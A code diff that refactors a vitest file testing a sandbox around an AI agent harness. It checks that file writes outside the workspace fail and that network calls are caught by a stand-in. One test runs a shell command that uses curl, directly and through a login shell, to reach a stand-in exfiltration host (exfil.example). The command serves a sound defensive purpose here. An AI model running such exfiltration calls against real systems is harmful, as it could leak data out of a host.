@@ -1,4 +1,4 @@
-import { existsSync, mkdtempSync, rmSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
@@ -12,6 +12,29 @@ import type { CommandAdapter } from './load.ts';
 const root = mkdtempSync(path.join(tmpdir(), 'hb-box-test-'));
 const workspace = path.join(root, 'ws');
 afterAll(() => rmSync(root, { recursive: true, force: true }));
+
+/** Runs `argv` as a command adapter on its own tools in the case's workspace (created). */
+async function launchProbe(argv: string[]) {
+  mkdirSync(workspace, { recursive: true });
+  const adapter = {
+    name: 'box-probe',
+    kind: 'command',
+    argv,
+    task: 'stdin',
+    env: {},
+    timeoutMs: 20_000,
+  } as unknown as CommandAdapter;
+  return launchCommand(adapter, {
+    task: 't',
+    baseURL: 'http://127.0.0.1:9/v1',
+    apiKey: 'k',
+    model: 'm',
+    workspace,
+    tools: [],
+    maxTurns: 1,
+    limits: caseLimits({} as Scenario, DEFAULT_CONFIG, 1),
+  });
+}
 
 describe('the box of a command harness', () => {
   it('binds only the given folders writable over a read-only root and a private /tmp', () => {
@@ -31,29 +54,10 @@ describe('the box of a command harness', () => {
   it.skipIf(!boxUsable() && !process.env.CI)(
     'a harness writing outside its workspace changes nothing of the host; inside it works',
     async () => {
-      const { mkdirSync } = await import('node:fs');
-      mkdirSync(workspace, { recursive: true });
       const outside = path.join(root, 'outside.txt');
       const script = `const fs = require('node:fs');
         for (const f of [${JSON.stringify(outside)}, 'inside.txt']) { try { fs.writeFileSync(f, 'x'); } catch (e) { process.stderr.write(e.code + ' '); } }`;
-      const adapter = {
-        name: 'box-probe',
-        kind: 'command',
-        argv: [process.execPath, '-e', script],
-        task: 'stdin',
-        env: {},
-        timeoutMs: 20_000,
-      } as unknown as CommandAdapter;
-      const out = await launchCommand(adapter, {
-        task: 't',
-        baseURL: 'http://127.0.0.1:9/v1',
-        apiKey: 'k',
-        model: 'm',
-        workspace,
-        tools: [],
-        maxTurns: 1,
-        limits: caseLimits({} as Scenario, DEFAULT_CONFIG, 1),
-      });
+      const out = await launchProbe([process.execPath, '-e', script]);
       expect(out.boxed).toBe(true);
       expect(existsSync(outside)).toBe(false);
       expect(existsSync(path.join(workspace, 'inside.txt'))).toBe(true);
@@ -63,30 +67,11 @@ describe('the box of a command harness', () => {
   it.skipIf((!boxUsable() && !process.env.CI) || !existsSync('/usr/bin/curl'))(
     'a network program run by its absolute path or from a login shell meets the stand-in too',
     async () => {
-      const { mkdirSync } = await import('node:fs');
-      mkdirSync(workspace, { recursive: true });
-      const adapter = {
-        name: 'box-probe',
-        kind: 'command',
-        argv: [
-          '/bin/sh',
-          '-c',
-          "/usr/bin/curl -s https://exfil.example/a; bash -lc 'curl -s https://exfil.example/b'",
-        ],
-        task: 'stdin',
-        env: {},
-        timeoutMs: 20_000,
-      } as unknown as CommandAdapter;
-      const out = await launchCommand(adapter, {
-        task: 't',
-        baseURL: 'http://127.0.0.1:9/v1',
-        apiKey: 'k',
-        model: 'm',
-        workspace,
-        tools: [],
-        maxTurns: 1,
-        limits: caseLimits({} as Scenario, DEFAULT_CONFIG, 1),
-      });
+      const out = await launchProbe([
+        '/bin/sh',
+        '-c',
+        "/usr/bin/curl -s https://exfil.example/a; bash -lc 'curl -s https://exfil.example/b'",
+      ]);
       expect(out.boxed).toBe(true);
       expect(out.standIns?.map((c) => c.args.at(-1))).toEqual([
         'https://exfil.example/a',
